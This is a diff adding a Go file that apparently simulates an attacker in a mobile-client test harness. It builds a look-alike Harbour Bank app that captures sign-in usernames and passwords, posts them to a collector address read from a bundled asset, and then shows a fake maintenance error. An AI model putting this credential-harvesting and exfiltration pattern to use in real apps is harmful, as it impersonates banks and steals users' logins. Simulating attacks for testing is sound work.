@@ -1,0 +1,90 @@
+package attacker
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"os"
+
+	"keyladder/mobileclient/device/sdk"
+	"keyladder/mobileclient/release"
+)
+
+// lookAlikeName is what the look-alike app is called on devices. People never see it:
+// they see the label, which is the bank's.
+const lookAlikeName = "com.harbourbank.app2"
+
+// typed is what somebody typed into the look-alike app.
+type typed struct {
+	User     string `json:"user"`
+	Password string `json:"password"`
+}
+
+// The look-alike app needs a program, and the attacker has no compiler at hand: it is
+// this very program. A device starts apps under their names.
+func init() {
+	if len(os.Args) == 1 && os.Args[0] == lookAlikeName {
+		if err := sdk.Run(newLookAlikeApp); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+		os.Exit(0)
+	}
+}
+
+// lookAlikeApp shows the bank's screens. What is typed into them it sends to the
+// attacker.
+type lookAlikeApp struct {
+	collector string
+	client    *http.Client
+}
+
+func newLookAlikeApp(system *sdk.System) (sdk.Handler, error) {
+	self, err := os.Executable()
+	if err != nil {
+		return nil, err
+	}
+	_, assets, err := release.Assets(self)
+	if err != nil {
+		return nil, err
+	}
+	return &lookAlikeApp{
+		collector: string(assets[collectorAsset]),
+		client:    &http.Client{Transport: &http.Transport{DialContext: system.Dial}, Timeout: callTimeout},
+	}, nil
+}
+
+// collectorAsset holds the address to which what was typed goes.
+const collectorAsset = "collector.txt"
+
+func (*lookAlikeApp) Open(string) error                     { return nil }
+func (*lookAlikeApp) OpenURL(context.Context, string) error { return nil }
+
+// Tap has one interesting button.
+func (a *lookAlikeApp) Tap(ctx context.Context, tap sdk.Tap) (sdk.Screen, error) {
+	if tap.What == sdk.SignIn {
+		if err := a.send(ctx, typed{tap.User, tap.Password}); err != nil {
+			return sdk.Screen{Error: err.Error()}, nil
+		}
+	}
+	return sdk.Screen{Users: true, Error: "Harbour Bank is being serviced. Please try again in an hour."}, nil
+}
+
+func (a *lookAlikeApp) send(ctx context.Context, what typed) error {
+	body, err := json.Marshal(what)
+	if err != nil {
+		return err
+	}
+	request, err := http.NewRequestWithContext(ctx, http.MethodPost, a.collector, bytes.NewReader(body))
+	if err != nil {
+		return err
+	}
+	response, err := a.client.Do(request)
+	if err != nil {
+		return errors.New("the app's server can't be reached")
+	}
+	return response.Body.Close()
+}
